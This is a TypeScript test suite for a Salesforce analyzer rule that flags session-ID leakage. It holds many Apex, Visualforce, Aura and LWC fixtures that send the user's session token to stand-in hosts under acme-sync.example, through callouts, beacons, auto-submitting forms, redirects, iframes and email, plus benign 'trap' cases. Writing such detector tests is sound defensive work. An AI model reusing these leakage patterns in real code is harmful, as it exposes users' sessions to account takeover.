/* eslint-disable camelcase -- fields of Salesforce */
import {
  aura,
  cls,
  component,
  field,
  itChecks,
  lwc,
  OK,
  page,
  xml,
  type Files,
  type SmallPackage,
} from '../support/smallPackages.js';

const control = 'no-session-id-for-metadata-api';
const P = 'force-app/main/default';

/** A controller whose property a page fills, and which sends it to this address. */
const filled = (address: string): Record<string, string | Uint8Array> =>
  cls(
    'SyncController',
    `public with sharing class SyncController {
    public String token { get; set; }
    public PageReference send() {
        HttpRequest req = new HttpRequest();
        req.setEndpoint(${address});
        req.setMethod('POST');
        req.setHeader('Authorization', 'Bearer ' + token);
        req.setBody('{}');
        new Http().send(req);
        return null;
    }
}`
  );
const THIRD = "'https://hub.acme-sync.example/v1/start'";
const OWN = "URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0/sobjects/Account'";
const SESSION_GETTER = cls(
  'Ctl',
  'public with sharing class Ctl {\n    @AuraEnabled\n    public static String sessionToken() { return UserInfo.getSessionId(); }\n}'
);

const linkThatAssigns = (value: string): string => `<apex:page controller="SyncController">
  <apex:form>
    <apex:commandLink action="{!send}" value="Sync">
      <apex:param name="t" value="{!${value}}" assignTo="{!token}"/>
    </apex:commandLink>
  </apex:form>
</apex:page>`;

const packages: SmallPackage[] = [
  {
    title: 'a page hands the session id to its controller through apex:param',
    control,
    files: {
      ...filled(THIRD),
      ...page('Sync', linkThatAssigns('$Api.Session_ID')),
    },
    verdict: 'fail',
    kind: 'violation',
    names: ['Sync', 'SyncController'],
  },
  {
    title: 'trap: apex:param with the session id for the data API of the org',
    control,
    files: {
      ...filled(OWN),
      ...page('Sync', linkThatAssigns('$Api.Session_ID')),
    },
    verdict: OK,
  },
  {
    title: 'trap: apex:param assigns a record id',
    control,
    files: {
      ...filled(THIRD),
      ...page('Sync', linkThatAssigns('$CurrentPage.parameters.id')),
    },
    verdict: OK,
  },
  {
    title: 'an action function whose argument is the session id',
    control,
    files: {
      ...filled(THIRD),
      ...page(
        'Sync',
        `<apex:page controller="SyncController">
  <apex:form>
    <apex:actionFunction name="push" action="{!send}" reRender="none">
      <apex:param name="t" value="" assignTo="{!token}"/>
    </apex:actionFunction>
  </apex:form>
  <script>
    window.onload = function () { push('{!$Api.Session_ID}'); };
  </script>
</apex:page>`
      ),
    },
    verdict: 'fail',
    names: ['Sync', 'SyncController'],
  },
  {
    title: 'a remote action that is given the session id',
    control,
    files: {
      ...cls(
        'Remote',
        `global with sharing class Remote {
    @RemoteAction
    global static String push(String token, String recordId) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example/records/' + recordId);
        req.setMethod('POST');
        req.setBody(JSON.serialize(new Map<String, String>{ 'sid' => token }));
        return new Http().send(req).getBody();
    }
}`
      ),
      ...page(
        'Push',
        `<apex:page controller="Remote">
  <script>
    Visualforce.remoting.Manager.invokeAction('{!$RemoteAction.Remote.push}', '{!$Api.Session_ID}', '{!$CurrentPage.parameters.id}', function (result) { console.log(result); });
  </script>
</apex:page>`
      ),
    },
    verdict: 'fail',
    names: ['Push', 'Remote'],
  },
  {
    title: 'a component attribute carries the session id to its controller',
    control,
    files: {
      ...filled(THIRD),
      ...component(
        'Widget',
        `<apex:component controller="SyncController">
  <apex:attribute name="sid" type="String" description="x" assignTo="{!token}"/>
  <apex:form><apex:commandButton action="{!send}" value="Go"/></apex:form>
</apex:component>`
      ),
      ...page('Host', '<apex:page>\n  <c:Widget sid="{!$Api.Session_ID}"/>\n</apex:page>'),
    },
    verdict: 'fail',
    names: ['Host', 'Widget', 'SyncController'],
  },
  {
    title: 'a component attribute carries the session id to a script',
    control,
    files: {
      ...component(
        'Beacon',
        `<apex:component>
  <apex:attribute name="sid" type="String" description="x"/>
  <script>
    navigator.sendBeacon('https://stats.acme-sync.example/b', JSON.stringify({ s: '{!sid}' }));
  </script>
</apex:component>`
      ),
      ...page('Host', '<apex:page>\n  <c:Beacon sid="{!$Api.Session_ID}"/>\n</apex:page>'),
    },
    verdict: 'fail',
    names: ['Host', 'Beacon'],
  },
  {
    title: 'a form that posts the session id in a hidden input',
    control,
    files: page(
      'Sso',
      `<apex:page>
<form id="f" action="https://sso.acme-sync.example/login" method="post">
  <input type="hidden" name="sid" value="{!$Api.Session_ID}"/>
  <input type="hidden" name="server" value="{!$Api.Partner_Server_URL_260}"/>
</form>
<script>document.getElementById('f').submit();</script>
</apex:page>`
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Sso'],
    at: ['pages/Sso.page:3', 'pages/Sso.page:2'],
  },
  {
    title: 'a serialised wrapper with the session id to another host',
    control,
    files: cls(
      'Onboarding',
      `public with sharing class Onboarding {
    private class Payload {
        public String orgId;
        public String instanceUrl;
        public String accessToken;
    }
    public static Integer start() {
        Payload payload = new Payload();
        payload.orgId = UserInfo.getOrganizationId();
        payload.instanceUrl = URL.getOrgDomainUrl().toExternalForm();
        payload.accessToken = UserInfo.getSessionId();
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://onboarding.acme-sync.example/orgs');
        req.setMethod('POST');
        req.setBody(JSON.serialize(payload));
        return new Http().send(req).getStatusCode();
    }
}`
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Onboarding'],
    at: ['classes/Onboarding.cls:11', 'classes/Onboarding.cls:16', 'classes/Onboarding.cls:13'],
  },
  {
    title: 'a future method that sends the session id of its caller',
    control,
    files: cls(
      'Pusher',
      `public with sharing class Pusher {
    public static void push(Set<Id> ids) {
        pushLater(JSON.serialize(ids), UserInfo.getSessionId());
    }
    @future(callout=true)
    private static void pushLater(String ids, String sid) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example/push');
        req.setMethod('POST');
        req.setHeader('X-Session', sid);
        req.setBody(ids);
        new Http().send(req);
    }
}`
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Pusher'],
  },
  {
    title: 'a batch that keeps the session id for its callouts',
    control,
    files: {
      ...cls(
        'ExportBatch',
        `global class ExportBatch implements Database.Batchable<SObject>, Database.Stateful, Database.AllowsCallouts {
    private String sid;
    global ExportBatch(String sid) { this.sid = sid; }
    global Database.QueryLocator start(Database.BatchableContext bc) { return Database.getQueryLocator('SELECT Id FROM Account'); }
    global void execute(Database.BatchableContext bc, List<Account> scope) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example/export');
        req.setMethod('POST');
        req.setHeader('Authorization', 'Bearer ' + sid);
        req.setBody(JSON.serialize(scope));
        new Http().send(req);
    }
    global void finish(Database.BatchableContext bc) { }
}`
      ),
      ...cls(
        'ExportController',
        'public with sharing class ExportController {\n    public void run() {\n        Database.executeBatch(new ExportBatch(UserInfo.getSessionId()), 50);\n    }\n}'
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    names: ['ExportBatch', 'ExportController'],
  },
  {
    title: 'a record that stores the session id',
    control,
    files: {
      ...cls(
        'JobQueue',
        "public with sharing class JobQueue {\n    public void add() {\n        insert new Job__c(Status__c = 'New', Session__c = UserInfo.getSessionId());\n    }\n}"
      ),
      ...xml(
        'objects/Job__c/Job__c.object-meta.xml',
        'CustomObject',
        '<label>Job</label><pluralLabel>Jobs</pluralLabel>'
      ),
      ...field('Job__c', 'Session__c'),
    },
    verdict: 'fail',
    kind: 'justification',
    names: ['JobQueue'],
  },
  {
    title: 'a page reference to another host with the session id',
    control,
    files: cls(
      'Redirect',
      `public with sharing class Redirect {
    public PageReference go() {
        PageReference target = new PageReference('https://portal.acme-sync.example/sso');
        target.getParameters().put('sid', UserInfo.getSessionId());
        target.setRedirect(true);
        return target;
    }
}`
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Redirect'],
  },
  {
    title: 'an e-mail with the session id',
    control,
    files: cls(
      'Notify',
      `public with sharing class Notify {
    public void mail(String to) {
        Messaging.SingleEmailMessage mail = new Messaging.SingleEmailMessage();
        mail.setToAddresses(new List<String>{ to });
        mail.setPlainTextBody('Open https://x.example?s=' + UserInfo.getSessionId());
        Messaging.sendEmail(new List<Messaging.SingleEmailMessage>{ mail });
    }
}`
    ),
    verdict: 'fail',
    names: ['Notify'],
  },
  {
    title: 'a named credential of the package that leads to another vendor',
    control,
    files: {
      ...cls(
        'HubClient',
        `public with sharing class HubClient {
    private static final String CREDENTIAL = 'callout:Acme_Hub';
    public HttpResponse connect() {
        HttpRequest req = new HttpRequest();
        req.setEndpoint(CREDENTIAL + '/connect');
        req.setMethod('POST');
        req.setBody(JSON.serialize(new Map<String, String>{ 'session' => UserInfo.getSessionId() }));
        return new Http().send(req);
    }
}`
      ),
      ...xml(
        'namedCredentials/Acme_Hub.namedCredential-meta.xml',
        'NamedCredential',
        '<endpoint>https://hub.acme-sync.example</endpoint><label>Hub</label><principalType>NamedUser</principalType><protocol>Password</protocol>'
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    names: ['HubClient'],
  },
  {
    title: 'a host of a setting that gets the session id',
    control,
    files: cls(
      'SettingClient',
      `public with sharing class SettingClient {
    public void ping() {
        Acme_Settings__c settings = Acme_Settings__c.getOrgDefaults();
        HttpRequest req = new HttpRequest();
        req.setEndpoint(settings.Service_Url__c + '/ping');
        req.setMethod('POST');
        req.setHeader('X-SFDC-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}`
    ),
    verdict: 'fail',
    names: ['SettingClient'],
  },
  {
    title: 'Aura that opens a window of another host',
    control,
    files: {
      ...SESSION_GETTER,
      ...aura(
        'Open',
        '<aura:component controller="Ctl"/>',
        `({
  open: function (cmp) {
    var action = cmp.get('c.sessionToken');
    action.setCallback(this, function (response) {
      if (response.getState() === 'SUCCESS') {
        window.open('https://portal.acme-sync.example/?sid=' + response.getReturnValue(), '_blank');
      }
    });
    $A.enqueueAction(action);
  }
})`
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    names: ['Open', 'Ctl'],
  },
  {
    title: 'Aura that sends the session id through a service component',
    control,
    files: {
      ...SESSION_GETTER,
      ...aura(
        'Transport',
        '<aura:component><aura:method name="post"><aura:attribute name="url" type="String"/><aura:attribute name="token" type="String"/></aura:method></aura:component>',
        `({
  post: function (cmp, event) {
    var args = event.getParam('arguments');
    var xhr = new XMLHttpRequest();
    xhr.open('POST', args.url);
    xhr.setRequestHeader('Authorization', 'Bearer ' + args.token);
    xhr.send();
  }
})`
      ),
      ...aura(
        'Panel',
        '<aura:component controller="Ctl"><c:Transport aura:id="transport"/></aura:component>',
        `({
  go: function (cmp) {
    var action = cmp.get('c.sessionToken');
    action.setCallback(this, function (response) {
      cmp.find('transport').post('https://hub.acme-sync.example/x', response.getReturnValue());
    });
    $A.enqueueAction(action);
  }
})`
      ),
    },
    verdict: 'fail',
    names: ['Panel', 'Transport', 'Ctl'],
  },
  {
    title: 'a Lightning component that publishes the session id on a message channel',
    control,
    files: {
      ...SESSION_GETTER,
      ...lwc(
        'publisher',
        `import { LightningElement, wire } from 'lwc';
import { publish, MessageContext } from 'lightning/messageService';
import CHANNEL from '@salesforce/messageChannel/Acme__c';
import sessionToken from '@salesforce/apex/Ctl.sessionToken';
export default class Publisher extends LightningElement {
  @wire(MessageContext) context;
  async connectedCallback() {
    const token = await sessionToken();
    publish(this.context, CHANNEL, { token });
  }
}`
      ),
    },
    verdict: 'fail',
    names: ['publisher', 'Ctl'],
  },
  {
    title: 'a Lightning component that wires the session id into an iframe of another host',
    control,
    files: {
      ...cls(
        'Ctl',
        'public with sharing class Ctl {\n    @AuraEnabled(cacheable=true)\n    public static String sessionToken() { return UserInfo.getSessionId(); }\n}'
      ),
      ...lwc(
        'frame',
        `import { LightningElement, wire } from 'lwc';
import sessionToken from '@salesforce/apex/Ctl.sessionToken';
export default class Frame extends LightningElement {
  @wire(sessionToken) token;
  get source() {
    return \`https://portal.acme-sync.example/embed?sid=\${this.token.data}\`;
  }
}`,
        '<template><iframe src={source}></iframe></template>'
      ),
    },
    verdict: 'fail',
    names: ['frame', 'Ctl'],
  },
  {
    title: 'trap: questions about the session id',
    control,
    files: cls(
      'Contexts',
      `public with sharing class Contexts {
    public static Boolean isInteractive() { return String.isNotBlank(UserInfo.getSessionId()); }
    public static Boolean isAsync() {
        String sid = UserInfo.getSessionId();
        return sid == null || sid.length() == 0;
    }
    public static void check() {
        if (UserInfo.getSessionId() == null) {
            throw new AuraHandledException('No session');
        }
        System.debug(LoggingLevel.INFO, 'has session: ' + (UserInfo.getSessionId() != null));
    }
}`
    ),
    verdict: OK,
  },
  {
    title: 'trap: a page shows something only inside a session',
    control,
    files: {
      ...cls(
        'PanelController',
        'public with sharing class PanelController {\n    public Boolean getHasSession() { return !String.isEmpty(UserInfo.getSessionId()); }\n}'
      ),
      ...page(
        'Panel',
        '<apex:page controller="PanelController">\n  <apex:outputPanel rendered="{!hasSession}">Hello</apex:outputPanel>\n</apex:page>'
      ),
    },
    verdict: OK,
  },
  {
    title: 'trap: a PDF of a page without a session id',
    control,
    files: {
      ...cls(
        'Invoices',
        `public with sharing class Invoices {
    public Blob render(Id recordId) {
        PageReference invoice = Page.Invoice;
        invoice.getParameters().put('id', recordId);
        return Test.isRunningTest() ? Blob.valueOf('x') : invoice.getContentAsPDF();
    }
}`
      ),
      ...page('Invoice', '<apex:page renderAs="pdf"><h1>Invoice {!$CurrentPage.parameters.id}</h1></apex:page>'),
    },
    verdict: OK,
  },
  {
    title: 'trap: a test class that sends a session id',
    control,
    files: cls(
      'ClientTest',
      `@IsTest
private class ClientTest {
    @IsTest
    static void sends() {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example');
        req.setBody(UserInfo.getSessionId());
        Test.setMock(HttpCalloutMock.class, new Mock());
        new Http().send(req);
    }
    private class Mock implements HttpCalloutMock {
        public HttpResponse respond(HttpRequest req) { return new HttpResponse(); }
    }
}`
    ),
    verdict: OK,
  },
  {
    title: 'trap: the AJAX toolkit queries records',
    control,
    files: page(
      'Toolkit',
      `<apex:page>
<script src="/soap/ajax/60.0/connection.js"></script>
<script>
  sforce.connection.sessionId = '{!$Api.Session_ID}';
  var result = sforce.connection.query("SELECT Id, Name FROM Account LIMIT 10");
  var records = result.getArray('records');
</script>
</apex:page>`
    ),
    verdict: OK,
  },
  {
    title: 'an included page that loads the Tooling API',
    control,
    files: {
      ...page(
        'Inner',
        `<apex:page>
<script>
  var client = new forcetk.Client();
  client.setSessionToken('{!$Api.Session_ID}');
  client.ajax('/v58.0/tooling/query/?q=SELECT+Id+FROM+Layout', function (r) { show(r); });
</script>
</apex:page>`
      ),
      ...page(
        'Outer',
        '<apex:page>\n  <apex:includeScript value="{!$Resource.forcetk}"/>\n  <apex:include pageName="Inner"/>\n</apex:page>'
      ),
    },
    verdict: 'fail',
    names: ['Inner', 'Outer'],
  },
  {
    title: 'a session id that is compared with a parameter and then sent on',
    control,
    files: cls(
      'Relay',
      `public with sharing class Relay {
    public void relay(String given) {
        String sid = String.isBlank(given) ? UserInfo.getSessionId() : given;
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example/relay?token=' + EncodingUtil.urlEncode(sid, 'UTF-8'));
        req.setMethod('GET');
        new Http().send(req);
    }
}`
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Relay'],
  },
  {
    title: 'trap: the page is called session but carries a parameter of its own',
    control,
    files: {
      [`${P}/lwc/sessions/sessions.js`]: `import { LightningElement, api } from 'lwc';
export default class Sessions extends LightningElement {
  @api sessionId; // id of a training session
  get link() { return 'https://learn.acme-sync.example/sessions/' + this.sessionId; }
}`,
      [`${P}/lwc/sessions/sessions.html`]: '<template><a href={link}>Open</a></template>',
      ...xml(
        'lwc/sessions/sessions.js-meta.xml',
        'LightningComponentBundle',
        '<apiVersion>62.0</apiVersion><isExposed>false</isExposed>'
      ),
    },
    verdict: OK,
  },
  ...[
    ['may be of a class that is named by a text', "Addr a = (Addr) Type.forName('Sub').newInstance();", ''],
    ['may be given from outside of the package', '', 'Addr a'],
  ].flatMap(([what = '', made = '', given = '']) => [
    {
      title: `an address that ${what} follows the method that overrides it`,
      control,
      files: { ...addressOf('/services/Soap/m/60.0'), ...sender(made, given) },
      verdict: 'fail' as const,
      kind: 'justification' as const,
    },
    {
      title: `an address that ${what} is fine where each method leads to a data API`,
      control,
      files: { ...addressOf('/services/data/v60.0/limits'), ...sender(made, given) },
      verdict: OK,
    },
  ]),
];

describe('sources and sinks of a session id', () => {
  itChecks(packages);
});

/** A class that gives an address, and another one that overrides it. */
function addressOf(path: string): Files {
  return {
    ...cls(
      'Addr',
      "public virtual class Addr { public virtual String path() { return '/services/data/v60.0/query'; } }"
    ),
    ...cls('Sub', `public class Sub extends Addr { public override String path() { return '${path}'; } }`),
  };
}

function sender(made: string, given: string): Files {
  return cls(
    'Caller',
    `public class Caller {
  public void go(${given}) {
    ${made}
    HttpRequest r = new HttpRequest();
    r.setMethod('POST');
    r.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + a.path());
    r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());
    r.setBody('{}');
    new Http().send(r);
  }
}`
  );
}
